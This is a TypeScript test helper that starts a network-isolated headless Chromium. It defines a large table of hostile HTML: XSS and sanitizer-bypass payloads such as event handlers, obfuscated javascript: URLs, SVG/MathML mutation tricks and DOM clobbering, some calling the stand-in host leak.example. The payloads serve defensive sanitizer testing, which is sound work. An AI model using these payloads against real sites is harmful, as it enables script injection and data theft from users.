// A headless Chromium for tests, and hostile markup that must not run in it.
import type { Browser, Page } from 'playwright-core'
import { PATIENCE_MS } from './eventually.ts'

/** Path of Chromium on this machine, or null; for `describe.skipIf(!chromiumPath)`. */
export const chromiumPath: string | null =
  Bun.which('chromium') ?? Bun.which('chromium-browser') ?? Bun.which('google-chrome')

/** Playwright's own list, which a second one replaces, and the windows for the address bar, which cost more than half of the
 * time that a new context takes. */
const DISABLED_FEATURES = [
  ...['WebUIOmniboxPopup', 'WebUIOmniboxAimPopup', 'AimEnabled', 'PreconnectToSearch', 'LensOverlay'],
  ...['AvoidUnnecessaryBeforeUnloadCheckSync', 'DestroyProfileOnBrowserClose', 'PaintHolding'],
  ...['HttpsUpgrades', 'HttpsFirstBalancedModeAutoEnable', 'ThirdPartyStoragePartitioning', 'MediaRouter'],
  ...['AvoidCorsURLLoaderRestartOnRedirect', 'OptimizationHints', 'NetworkTimeServiceQuerying'],
]

/** A new browser (about half a second). Only loopback can be reached; other host names fail to resolve. */
export async function launchChromium(): Promise<Browser> {
  if (!chromiumPath) throw new Error('No Chromium on this machine: install the `chromium` package')
  const { chromium } = await import('playwright-core')
  const browser = await chromium.launch({
    executablePath: chromiumPath,
    timeout: PATIENCE_MS,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--disable-quic',
      `--disable-features=${DISABLED_FEATURES}`,
      '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost',
    ],
  })
  browser.on('context', (context) => context.setDefaultTimeout(PATIENCE_MS))
  return browser
}

/**
 * Runs `use` with a page of a new browser and closes the browser afterwards. A request to another host fails after the
 * page's `request` event has reported the attempt.
 */
export async function withPage<T>(use: (page: Page) => Promise<T>): Promise<T> {
  const browser = await launchChromium()
  try {
    const context = await browser.newContext() // unlike browser.newPage(), lets `use` open more pages
    return await use(await context.newPage())
  } finally {
    await browser.close()
  }
}

/**
 * Markup that, unsanitized, calls `pwned()`, sends a request to `https://leak.example/…` or overwrites names of the page.
 * None of it contains an external image or link that a sanitizer may keep.
 */
export const hostileHtml: Record<string, string> = {
  'a script': '<script>pwned()</script>',
  'a script by address': '<script src=https://leak.example/script></script>',
  'a script in a script': '<scr<script>ipt>pwned()</scr</script>ipt>',
  'a doubled bracket': '<<script>pwned()//<</script>',
  'a script tag with a slash': '<script/x>pwned()</script/x>',
  'a script tag cut by NUL': '<scr\0ipt>pwned()</scr\0ipt>',
  'a script that never ends': '<p>x</p><script>pwned()',
  'a script after an empty comment': '<!--><script>pwned()</script>-->',
  'a script after a short comment': '<!---><img src=x onerror=pwned()>-->',
  'a comment closed with a bang': '<!--x--!><img src=x onerror=pwned()>-->',
  'a conditional comment':
    '<!--[if gte IE 4]><script>pwned()</script><![endif]--><![if !IE]><img src=x onerror=pwned()><![endif]>',
  'a processing instruction': '<?xml version="1.0"?><img src=x onerror=pwned()>',
  'a declaration': '<!ELEMENT <img src=x onerror=pwned()>>',
  'CDATA in HTML': '<![CDATA[><img src=x onerror=pwned()>]]>',
  'CDATA in SVG':
    '<svg><![CDATA[</svg><img src=x onerror=pwned()>]]></svg><svg><desc><![CDATA[</desc><script>pwned()</script>]]>',
  'an error handler': '<img src=x onerror=pwned()>',
  'a handler after a slash': '<img/src="x"/onerror=pwned()>',
  'a handler after a form feed': '<img src=x\fonerror=pwned()>',
  'a handler after a quote': '<img src="x"onerror="pwned()">',
  'a handler in capitals': '<IMG SRC=x ONERROR="pwned()">',
  'a handler written with entities': '<img src=x onerror="&#112;wned&lpar;&rpar;">',
  'a handler after a stray quote': '<img """><img src=x onerror=pwned()>">',
  'a handler after a stray bracket':
    '<a title=">"><img alt="</a><img src=x onerror=pwned()>" src=x onerror=pwned()>',
  'a handler between backticks': '<img alt=`><img src=x onerror=pwned()>`>',
  'a handler on a kept tag':
    '<p onclick=pwned() onmouseover=pwned() onfocus=pwned() tabindex=0 autofocus>x</p>',
  'a handler on details': '<details open ontoggle=pwned()><summary>x</summary>y</details>',
  'a handler on body': '<body onload=pwned() background=https://leak.example/body>',
  'a handler on an unknown tag':
    '<x-tag onclick=pwned() style="animation:a 1s" onanimationstart=pwned()>x</x-tag>',
  'a handler on a void tag': '<input onfocus=pwned() autofocus><marquee onstart=pwned()>x</marquee>',
  'a scheme': '<a href="javascript:pwned()">x</a>',
  'a scheme in capitals': '<a href="JaVaScRiPt:pwned()">x</a>',
  'a scheme in entities': '<a href="&#106;&#x61;vascript&colon;pwned&lpar;&rpar;">x</a>',
  'a scheme in padded entities': '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115cript:pwned()">x</a>',
  'a scheme cut by a tab': '<a href="java\tscript:pwned()">x</a>',
  'a scheme cut by a tab as an entity': '<a href="java&Tab;scr&NewLine;ipt&colon;pwned()">x</a>',
  'a scheme after control characters': '<a href="&#1;&#x1f; \njavascript:pwned()">x</a>',
  'a scheme cut by a comment': '<a href="java<!-- -->script:pwned()">x</a>',
  'a scheme without quotes': '<a href=javascript:pwned()>x</a>',
  'a scheme in single quotes': "<a href='javascript:pwned()'>x</a>",
  'a scheme and then a fragment': '<a href="javascript:pwned()//https://example.com/#/">x</a>',
  'a scheme given twice': '<a href="javascript:pwned()" href="/fine">x</a>',
  'vbscript and data':
    '<a href="vbscript:pwned()">x</a><a href="data:text/html,<script>pwned()</script>">y</a>',
  'a scheme in cite': '<blockquote cite="javascript:pwned()">x</blockquote><q cite="data:text/html,x">y</q>',
  'an area': '<map name=m><area shape=default href="javascript:pwned()"></map><img usemap=#m src=x>',
  'a link that pings': '<a href="#x" ping="https://leak.example/ping">x</a>',
  'a data image':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>\" onload=pwned()>",
  'a source set': '<img src="/media/a.jpg" srcset="https://leak.example/srcset 1x" sizes=1px>',
  'a picture': '<picture><source srcset="https://leak.example/picture"><img src="/media/a.jpg"></picture>',
  'a lazy original':
    '<img src="/media/a.jpg" lowsrc=https://leak.example/lowsrc longdesc="javascript:pwned()">',
  'a style':
    '<style>@import url(https://leak.example/import);body{background:url(https://leak.example/css)}</style>',
  'a style attribute': '<p style="background:url(https://leak.example/style);position:fixed;inset:0">x</p>',
  'a style that closes': '<style><!--</style><img src=x onerror=pwned()>--></style>',
  'a link element':
    '<link rel=stylesheet href=https://leak.example/sheet><link rel=preload as=image href=https://leak.example/preload>',
  'a base': '<base href="https://leak.example/base/"><img src="media/a.jpg">',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://leak.example/refresh">',
  'a charset': '<meta charset=utf-7>+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  'a frame':
    '<iframe src="javascript:parent.pwned()"></iframe><iframe src=https://leak.example/frame></iframe>',
  'a frame with its document': '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  'a frame with fallback': '<iframe></iframe/><img src=x onerror=pwned()></iframe>',
  'an object':
    '<object data="javascript:pwned()"></object><embed src=https://leak.example/embed><object data=https://leak.example/object></object>',
  'a form':
    '<form action="javascript:pwned()"><button formaction="javascript:pwned()">x</button><input type=image src=https://leak.example/input></form>',
  'media elements':
    '<video poster=https://leak.example/poster src=https://leak.example/video onerror=pwned()><audio src=https://leak.example/audio autoplay onerror=pwned()>',
  'a video with a source': '<video><source onerror=pwned() src=x></video>',
  'a table background':
    '<table background=https://leak.example/table><td background=https://leak.example/td>x</table>',
  'an SVG that loads': '<svg onload=pwned()></svg><svg/onload=pwned()>',
  'an SVG script': '<svg><script>pwned()</script><script href=https://leak.example/svg-script /></svg>',
  'an SVG link':
    '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a><image href=https://leak.example/svg-image /></svg>',
  'an SVG animation':
    '<svg><a><animate attributeName=href values="javascript:pwned()" begin=0s /><text y=20>x</text></a><set onbegin=pwned() attributeName=x to=1></svg>',
  'an SVG that uses':
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='pwned()' /></svg>#x\" /></svg>",
  'HTML in SVG':
    '<svg><foreignObject><img src=x onerror=pwned()></foreignObject><p><style><!--</style><img src=x onerror=pwned()>--></style>',
  'a title in SVG':
    '<svg><title><style><img src="</style><img src=x onerror=pwned()>"></style></title></svg>',
  'a textarea in SVG': '<svg><textarea><img src=x onerror=pwned()></textarea></svg>',
  'a style in SVG': '<svg></p><style><a title="</style><img src=x onerror=pwned()>">',
  'a style in MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
  'forms in MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()></style></mglyph></form></mtext></math>',
  'an SVG in MathML':
    '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=pwned()>"></style></annotation-xml></math>',
  'a MathML link':
    '<math href="javascript:pwned()">x</math><math><mrow xlink:href="javascript:pwned()">y</mrow></math>',
  'a mark in MathML':
    '<math><mi><table><mglyph><svg><mtext><textarea><path title="</textarea><img src=x onerror=pwned()>">',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  'a noscript closed early': '<p><noscript></p><a title="</noscript><img src=x onerror=pwned()>"></a>',
  'a noscript with a style': '<noscript><style></noscript><img src=x onerror=pwned()></style></noscript>',
  'an xmp': '<xmp><img src=x onerror=pwned()></xmp><xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
  'a noembed and a noframes':
    '<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed><noframes><p title="</noframes><img src=x onerror=pwned()>"></noframes>',
  'a textarea': '<textarea><p title="</textarea><img src=x onerror=pwned()>"></textarea>',
  'a textarea with entities': '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=pwned()&gt;</textarea>',
  'a textarea closed with a slash': '<textarea></textarea/><img src=x onerror=pwned()></textarea>',
  'a title': '<title><p title="</title><img src=x onerror=pwned()>"></title>',
  'a select': '<select><option><style></option></select><img src=x onerror=pwned()></style>',
  'a select with a template': '<select><template><option>x</select><img src=x onerror=pwned()>',
  'an option with entities':
    '<select><option>&lt;script&gt;pwned()&lt;/script&gt;</option></select><img src=x onerror=pwned()>',
  'a template':
    '<template shadowrootmode=open><script>pwned()</script></template><template><img src=x onerror=pwned()></template>',
  'a shadow root': '<div><template shadowrootmode=open><img src=x onerror=pwned()></template></div>',
  'a plaintext': '<img src=x onerror=pwned()><plaintext><script>pwned()</script>',
  'a plaintext in a table': '<table><plaintext></table><img src=x onerror=pwned()>',
  'a frameset':
    '<frameset onload=pwned()><frame src="javascript:parent.pwned()"></frameset><img src=x onerror=pwned()>',
  'a heading that clobbers':
    '<a id=pwnedConfig name=pwnedConfig href="https://example.com/">x</a><form id=pwnedConfig><input name=body></form><img src=x onerror=pwned()>',
  'an image that clobbers':
    '<img name=getElementById id=cookie><img name=currentScript src=x onerror=pwned()>',
  'text that only looks escaped':
    '&lt;script&gt;pwned()&lt;/script&gt;<b>&lt;img src=x onerror=pwned()&gt;</b><img src=x onerror=pwned()>',
  'attribute text that closes everything':
    '<img alt="--></style></script></textarea></title></noscript></xmp><img src=x onerror=pwned()>" src=x onerror=pwned()>',
}
